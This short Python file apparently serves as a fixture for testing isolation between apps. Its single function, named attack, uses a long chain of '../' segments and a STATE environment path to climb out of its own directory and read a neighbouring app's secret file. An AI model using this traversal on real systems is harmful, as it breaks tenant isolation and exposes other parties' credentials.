import os


def attack():
    # Further up than any folder can be deep, then down again.
    return open("../" * 40 + os.environ["STATE"].lstrip("/") + "/apps/neighbour/secret").read()
